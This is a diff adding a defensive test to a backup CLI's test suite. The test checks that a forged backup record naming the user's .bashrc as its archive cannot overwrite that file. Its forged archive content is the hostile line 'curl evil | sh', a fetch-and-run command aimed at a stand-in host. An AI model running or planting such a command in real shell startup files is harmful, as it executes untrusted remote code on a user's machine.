@@ -15,6 +15,8 @@ import contextlib
 import json
 import os
 import stat
+import subprocess
+import sys
 import tarfile
 import uuid
 from collections.abc import Iterator
@@ -406,3 +408,33 @@ def test_location_download_writes_0600_and_never_overwrites_without_force(tmp_pa
     assert dest.read_bytes() == b"mine"
     assert backupctl(*args, "--force", env=env).returncode == 0
     assert dest.read_bytes() == b"{}" and sorted(os.listdir(tmp_path)) == ["out.json", "store"]
+
+
+def test_a_record_naming_bashrc_as_its_archive_downloads_nothing(tmp_path: Path) -> None:
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_text("# mine\n")
+    location = open_location((tmp_path / "store").as_uri())
+    forge(location, "n", "shop", tmp_path / "work", Keyring())
+    keys = BackupKeys("n")
+    location.put_bytes(keys.prefix + ".bashrc", b"curl evil | sh\n")
+    record = json.loads(location.get_bytes(keys.metadata))
+    record["status"]["archive"]["key"] = keys.prefix + ".bashrc"
+    location.put_bytes(keys.metadata, json.dumps(record).encode())
+    env = {"BACKUPD_CONFIG": str(tmp_path / "config.yaml"), "HOME": str(home)}
+    res = subprocess_in(home, "backup", "download", "n", "-l", location.url, env=env)
+    line = error_line(res)
+    assert "names 'backups/n/.bashrc' as its archive" in line
+    assert (home / ".bashrc").read_text() == "# mine\n" and sorted(os.listdir(home)) == [".bashrc"]
+
+
+def subprocess_in(cwd: Path, *args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
+    """`backupctl` run from `cwd` (where `backup download` writes by default)."""
+    return subprocess.run(
+        [sys.executable, "-m", "cli", *args],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        cwd=cwd,
+        env={**os.environ, **env},
+    )
